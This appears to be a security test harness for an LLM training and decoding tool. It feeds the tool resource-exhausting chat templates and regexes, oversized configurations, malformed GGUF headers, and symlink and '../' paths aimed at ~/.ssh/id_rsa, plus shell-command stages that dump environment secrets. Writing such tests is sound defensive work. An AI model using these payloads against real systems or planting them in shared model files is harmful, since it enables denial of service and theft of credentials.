    "a chain of 60,000 sums": "{{ 1" + "+1" * 60000 + " }}",
    "a chain of 60,000 joints": "{{ 'a'" + "~'a'" * 60000 + " }}",
    "20,000 brackets": "{{ " + "(" * 20000 + "1" + ")" * 20000 + " }}",
    "20,000 filters": "{{ 'a'" + "|trim" * 20000 + " }}",
    "20,000 negations": "{{ " + "not " * 20000 + "1 }}",
    "an indent without end": "{{ messages|tojson(indent=9223372036854775807) }}",
    "a string that doubles": "{% set ns = namespace(s='a') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s }}",
    "a list that doubles": "{% set ns = namespace(s=[1]) %}{% for i in range(60) %}{% set ns.s = ns.s + ns.s %}{% endfor %}x",
    "loops in loops": "".join(f"{{% for a{i} in range(100000) %}}" for i in range(4)) + "x" + "{% endfor %}" * 4,
    "the largest number": "{{ 9223372036854775807 + 1 }}{{ -9223372036854775807 - 2 }}{{ (0 - 9223372036854775807 - 1) // (0 - 1) }}",
    "a power": "{{ 9 ** 9 ** 9 ** 9 }}",
    "a product of texts": "{{ 'a' * 9223372036854775807 }}",
}


@attack
@long
def templates_that_explode(bench):
    """Chat templates of a hostile checkpoint: deep, doubling, without end."""
    for name, template in TEMPLATES.items():
        folder = bench.parrot("answer", template=template)
        try:
            bench.run("decode", folder, "x", "--method", "autoregressive", "--plain", patience=240)
        except Hole as hole:
            raise Hole(f"{name}: {hole}") from None


@attack
def templates_that_multiply(bench):
    """tokenizer.json asks for thousands of millions of tokens around a prompt, or for thousands of splits of it."""
    special = {"SpecialToken": {"id": "a", "type_id": 0}}
    text = {"Sequence": {"id": "A", "type_id": 0}}
    many = {"type": "TemplateProcessing", "single": [special] * 100000 + [text], "pair": [],
            "special_tokens": {"a": {"id": "a", "ids": [1] * 30000, "tokens": ["x"] * 30000}}}
    often = {"type": "TemplateProcessing", "single": [text] * 16, "pair": [], "special_tokens": {}}
    split = {"type": "Split", "pattern": {"Regex": "(a+)+$"}, "behavior": "Isolated", "invert": False}
    for key, value in [
        ("post_processor", many), ("post_processor", {"type": "Sequence", "processors": [often] * 16}),
        ("pre_tokenizer", {"type": "Sequence", "pretokenizers": [split] * 10000}),
    ]:
        folder = bench.parrot("answer")
        tokenizer = json.loads((folder / "tokenizer.json").read_text())
        (folder / "tokenizer.json").write_text(json.dumps({**tokenizer, key: value}))
        try:
            bench.run("decode", folder, "x" * 40, "--method", "autoregressive", "--plain", patience=120)
        except Hole as hole:
            raise Hole(f"{key}: {hole}") from None


@attack
@long
def a_pattern_of_a_tokenizer_never_ends(bench):
    """tokenizer.json has a pattern whose time doubles with each letter."""
    for pattern in ("(a+)+$", "(a|aa)+$", "(?:a|a)*b", "(.*a){20}"):
        folder = bench.parrot("answer", pattern=pattern)
        try:
            bench.run("decode", folder, "a" * 60 + "!", "--method", "autoregressive", "--plain", patience=240)
        except Hole as hole:
            raise Hole(f"{pattern}: {hole}") from None


@attack
def whoever_reads_the_store_stops_runs(bench):
    """flock on the store's folder and its locks: a run waits, without a word and deaf to signals."""
    config = bench.quick()
    bench.must("run", config, "--store", bench.store, "--no-forecast")
    held = []
    for path in [bench.store, *bench.store.rglob("*.lock"), bench.store / ".locks"]:
        descriptor = os.open(path, os.O_RDONLY)
        fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
        held.append(descriptor)
    process = bench.start("run", config, "--store", bench.store, "--no-forecast", "--set", "seed=9")
    try:
        time.sleep(5)
        if process.poll() is None:
            process.terminate()
            process.wait(60)
    except subprocess.TimeoutExpired:
        raise Hole("it waits for the lock and doesn't hear SIGTERM") from None
    finally:
        for descriptor in held:
            os.close(descriptor)
        if process.poll() is None:
            process.kill()
        process.communicate()


@attack
def a_list_on_one_line_takes_days(bench):
    """Fifty thousand records as one line of JSON, as Python writes a list: the time grew with the square of their number."""
    bench.write("list.json", json.dumps([{"prompt": "a", "response": "b"}] * 50_000))
    outcome = bench.run("data", "list.json", patience=60)
    if "50000 records" not in outcome.text:
        raise Hole(outcome.text[:200])
    bench.write("quoted.csv", "messages," + "A" * 1_000_000 + "\nq,\n" + ",x\n" * 50_000)
    bench.run("data", "quoted.csv", "--json", patience=60)
    bench.write("short.csv", "messages," + "A" * 900 + "\nq,\n" + ",x\n" * 50_000)
    if len(bench.run("data", "short.csv", "--json", patience=60).output) > 2_000_000:
        raise Hole("each of fifty thousand messages is printed")


@attack
def a_configuration_multiplies(bench):
    """Few bytes stand for any number of stages, values and messages: memory and minutes of whoever validates it."""
    def tight():
        resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))

    step = {"objective": "autoregressive", "rows": 1}
    training = {"kind": "pretrain", "data": "@s", "tokenizer": "@t", "model": {}}
    base = {"s": {"kind": "synthesize"}, "t": {"kind": "tokenizer", "corpus": "@s"}}
    numbers = list(range(1, 101))
    many = [{"name": f"a{index}", "steps": 1, "mixture": [step]} for index in range(200)]
    configurations = {
        "variables": {"variables": {"o": step, "m": ["${o}"] * 40, "p": {"name": "a", "steps": 1, "mixture": "${m}"}},
                      "stages": {**base, "p": {**training, "phases": ["${p}"] * 60,
                                               "matrix": {"seed": numbers, "generationLength": numbers}}}},
        "copies": {"stages": {**base, "p": {**training, "phases": many}}, "replicate": {"seed": list(range(6000))}},
        "keys": {"stages": {"s": {"kind": "synthesize", "matrix": {"seed": list(range(1000)),
                                                                   **{f"k{index}": [1] for index in range(1000)}}}}},
        "unknown": {"stages": {"s": {"kind": "synthesize", "matrix": {"seed": list(range(1000))},
                                     **{f"k{index}": 1 for index in range(1000)}}}},
        "references": {"stages": {f"stage-number-{index:05}": {"kind": "questions", "file": f"@stage-numberx{index:05}"}
                                  for index in range(3000)}},
        "files": {"extends": [f"missing-{index}.json" for index in range(20_000)], "stages": base},
    }
    for name, content in configurations.items():
        bench.write(f"{name}.json", {"name": "many/" + name, **content})
        try:
            outcome = bench.run("validate", f"{name}.json", prepare=tight, patience=60)
            if outcome.code == 0:
                raise Hole("it counts as valid")
        except Hole as hole:
            raise Hole(f"{name}: {hole}") from None


@attack
def numbers_of_a_log_are_extreme(bench):
    """A log of a training in a store says 2^63 - 1 or 1e308: a report overflowed, or drew ten million marks."""
    bench.write("train.json", {"name": "train", "stages": {
        "s": {"kind": "synthesize", "train": 40, "test": 2}, "t": {"kind": "tokenizer", "corpus": "@s"},
        "p": {"kind": "pretrain", "data": "@s", "tokenizer": "@t", "model": {"layers": 1, "width": 16, "heads": 2}, "phases": [
            {"name": "a", "steps": 30, "mixture": [{"objective": "autoregressive", "rows": 2}]}]}}})
    bench.must("run", "train.json", "--store", bench.store, "--no-forecast")
    (artifact,) = bench.artifacts("p", "train")
    log, record = artifact / "training.jsonl", json.loads((artifact / "artifact.json").read_bytes())
    lines = [json.loads(line) for line in log.read_text().splitlines()]
    changes = [("step", 2 ** 63 - 1), ("step", -2 ** 63), ("step", 1 << 40)] + [
        (key, value) for key in ("loss", "learningRateFactor", "gradientNorm", "crossEntropy", "entropy")
        for value in (1e308, -1e308, 1e-308, 1.0000000000000002e300)]
    for key, value in changes:
        changed = [{**lines[0], "phase": "z"}, *lines]
        for line in changed[:1]:
            for place in (line, *line["groups"]):
                if key in place:
                    place[key] = value
        log.write_text("".join(json.dumps(line) + "\n" for line in changed))
        # Whoever prepares a store writes the hashes too.
        for file in record["files"]:
            if file["path"] == log.name:
                file.update(size=log.stat().st_size, sha256=sha256(log))
        (artifact / "artifact.json").write_text(json.dumps(record))
        try:
            bench.run("report", "train", "--output", bench.out / "page.html", "--store", bench.store, patience=60)
        except Hole as hole:
            raise Hole(f"{key} {value}: {hole}") from None


@attack
def a_notebook_publishes_files(bench):
    """A notebook names a file of the user's, by a link or by "..": its text stood in the page, which is committed."""
    folder = bench.repository / "notes"
    (folder / "results").mkdir(parents=True)
    (folder / "results/key.md").symlink_to(bench.home / ".ssh/id_rsa")
    (folder / "all").symlink_to(bench.home / ".ssh")
    for name in ("results/key.md", "../../../.ssh/id_rsa", "all/id_rsa", "results/../../../../.ssh/id_rsa"):
        page = bench.write("notes/page.md", f"# Notes\n\n<!-- d3llm: table {name} -->\n<!-- /d3llm -->\n")
        bench.run("notebook", page)
        if "SECRETKEY" in page.read_text():
            raise Hole(f"{name} stands in the page")


@attack
def the_shell_limits_files(bench):
    """A limit of the shell's on the size of files ended a run by a signal, without a word."""
    config = bench.quick()
    outcome = bench.run("run", config, "--store", bench.store, "--no-forecast",
                        prepare=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (100, 100)))
    if outcome.code == 0 or "large" not in outcome.text:
        raise Hole(f"{outcome.code}: {outcome.text[-200:]}")


@attack
def a_configuration_runs_a_command(bench):
    """A stage of somebody else's configuration is a program: it runs with leave only, whatever is done with the file."""
    def stage(script):
        return {"kind": "command", "command": ["sh", "-c", script]}

    trace = bench.home / "trace"
    config = bench.write("own.json", {"name": "own", "stages": {"own": stage(f"touch {trace}; echo 1 > output/a")}})
    bench.watch()
    for words in (["run", config, "--allow-code-execution"], ["run", config, "--only", "own", "--force", "own"], ["plan", config],
                  ["validate", config], ["determinism", config], ["launch", "slurm", config, "--print"]):
        more = [] if words[0] == "validate" else ["--store", bench.store]
        if bench.run(*words, *more).code == 0 and words[0] not in ("plan", "validate"):
            raise Hole(f"{words[0]} ran it")
    # With leave it is a program like any other; but links that it leaves aren't followed, and no secret reaches it.
    thesis = bench.home / "thesis.pdf"
    script = f"env > output/env; ln -s {thesis} output/link; ln -s {bench.home} output/folder; rm -r tmp; ln -s {bench.home} tmp"
    config = bench.write("own.json", {"name": "own", "stages": {"own": stage(script)}})
    bench.watch()
    words = ["run", config, "--store", bench.store, "--allow-commands", "--no-forecast"]
    if bench.run(*words, env={"HF_TOKEN": TOKEN}).code == 0:
        raise Hole("links became an artifact")
    config = bench.write("own.json", {"name": "own", "stages": {"own": {
        **stage("env > output/env"), "environment": ["HF_TOKEN2", "LANG"]}}})
    bench.watch()
    bench.must(*words, env={"HF_TOKEN": TOKEN})
    (artifact,) = bench.artifacts("own", "own")
    if TOKEN in (artifact / "env").read_text():
        raise Hole("it was given the token")


@attack
def a_gguf_file_lies(bench):
    """The header of a model in GGUF claims keys, lists, texts and tensors that aren't there, or shapes that no number counts."""
    def text(value):
        return struct.pack("<Q", len(value)) + value

    def file(values=b"", tensors=b"", value_count=None, tensor_count=0):
        values = text(b"general.architecture") + struct.pack("<I", 8) + text(b"llama") + values
        return b"GGUF" + struct.pack("<IQQ", 3, tensor_count, value_count or 1) + values + tensors

    most = 2**64 - 1
    lies = {
        "empty": b"", "magic alone": b"GGUF", "keys": file(value_count=most), "tensors": file(tensor_count=most),
        "a long text": file(text(b"a") + struct.pack("<IQ", 8, most), value_count=2),
        "a long key": file(struct.pack("<Q", most), value_count=2),
        "lists in lists": file(text(b"a") + struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 100_000, value_count=2),
        "a list of texts": file(text(b"a") + struct.pack("<IIQ", 9, 8, 2**60), value_count=2),
    }
    for shape in ([most], [2**32, 2**32], [0, 2**48, 2**48], [2**62, 4], [2**40]):
        for offset in (0, 32, most, 2**63):
            lies[f"shape {shape} at {offset}"] = file(
                tensors=text(b"token_embd.weight") + struct.pack(f"<I{len(shape)}QIQ", len(shape), *shape, 0, offset) + bytes(256),
                tensor_count=1)
    for name, content in lies.items():
        path = bench.repository / "model.gguf"
        path.write_bytes(content)
        try:
            outcome = bench.run("decode", path, "x", "--plain", patience=60)
        except Hole as hole:
            raise Hole(f"{name}: {hole}") from None
        if not outcome.code or "model.gguf" not in outcome.text:
            raise Hole(f"{name}: {outcome.code}: {outcome.text[-200:]}")


@attack
def a_model_has_no_room(bench):
    """A configuration asks for a model of two terabytes: the process ended by an abort with a page of addresses."""
    bench.write("large.json", {"name": "large", "stages": {
        "s": {"kind": "synthesize", "train": 40, "test": 2}, "t": {"kind": "tokenizer", "corpus": "@s"},
        "p": {"kind": "pretrain", "data": "@s", "tokenizer": "@t",
              "model": {"layers": 128, "width": 16384, "heads": 256, "feedForwardWidth": 65536}, "phases": [
                  {"name": "a", "steps": 3, "mixture": [{"objective": "autoregressive", "rows": 2}]}]}}})
    outcome = bench.run("run", "large.json", "--store", bench.store, "--no-forecast")
    if "memory" not in outcome.text:
        raise Hole(outcome.text[-200:])


# ---- running


def prepared(program):
    """The program where nobody can run it, and the fixtures, read before rights are given up."""
    fixture = {path.name: path.read_bytes() for path in FIXTURE.iterdir()}
    folder = None
    if os.geteuid() == 0:
        folder = tempfile.mkdtemp(prefix="d3llm-safety-program-")
        os.chmod(folder, 0o755)
        copy = os.path.join(folder, "d3llm")
        shutil.copy(program, copy)
        os.chmod(copy, 0o755)
        program = copy
    return program, fixture, folder


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("program", nargs="?")
    parser.add_argument("names", nargs="*", metavar="NAME")
    parser.add_argument("--list", action="store_true")
    parser.add_argument("--short", action="store_true")
    parser.add_argument("--json", metavar="FILE")
    arguments = parser.parse_args()
    if arguments.list or not arguments.program:
        for name, function in ATTACKS.items():
            print(f"{name:40} {function.__doc__.strip()}")
        return 0
    unknown = [name for name in arguments.names if name not in ATTACKS]
    if unknown:
        parser.error(f"there is no attack called {unknown[0]}; --list names them")
    program, fixture, folder = prepared(os.path.abspath(arguments.program))
    results = []
    child = os.fork() if folder else 0
    if child:
        # Root only waits, to remove what it copied.
        _, status = os.waitpid(child, 0)
        shutil.rmtree(folder)
        return os.waitstatus_to_exitcode(status)
    if folder:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
        # Whoever gave up rights isn't dumpable any more, and could not look at its own children.
        ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
    os.umask(0o022)
    for name in arguments.names or [name for name in ATTACKS if not (arguments.short and name in LONG)]:
        start = time.monotonic()
        bench = Bench(program, fixture)
        try:
            ATTACKS[name](bench)
            verdict, reason = "refused", ""
        except Hole as hole:
            verdict, reason = "HOLE", str(hole)
        except NotTried as why:
            verdict, reason = "not tried", str(why)
        except Exception as error:  # a preparation that doesn't work shows nothing
            verdict, reason = "ERROR", f"{type(error).__name__}: {error}"
        finally:
            for path, folders, _ in os.walk(bench.root):
                for below in folders:
                    with contextlib.suppress(OSError):
                        os.chmod(os.path.join(path, below), 0o700)
            shutil.rmtree(bench.root, ignore_errors=True)
        seconds = time.monotonic() - start
        print(f"{verdict:9} {name}{': ' + reason if reason else ''} ({seconds:.1f} s)", flush=True)
        results.append({"name": name, "verdict": verdict, "reason": reason, "seconds": round(seconds, 1)})
    if arguments.json:
        try:
            pathlib.Path(arguments.json).write_text(json.dumps(results, indent=1) + "\n")
        except PermissionError:
            print(f"{arguments.json} can't be written by user {os.geteuid()}, whom the attacks run as", file=sys.stderr)
    holes = sum(result["verdict"] in ("HOLE", "ERROR") for result in results)
    print(f"{len(results)} attacks: " + ", ".join(
        f"{sum(result['verdict'] == word for result in results)} {word}" for word in ("refused", "HOLE", "not tried", "ERROR")))
    return min(holes, 125)


if __name__ == "__main__":
    sys.exit(main())
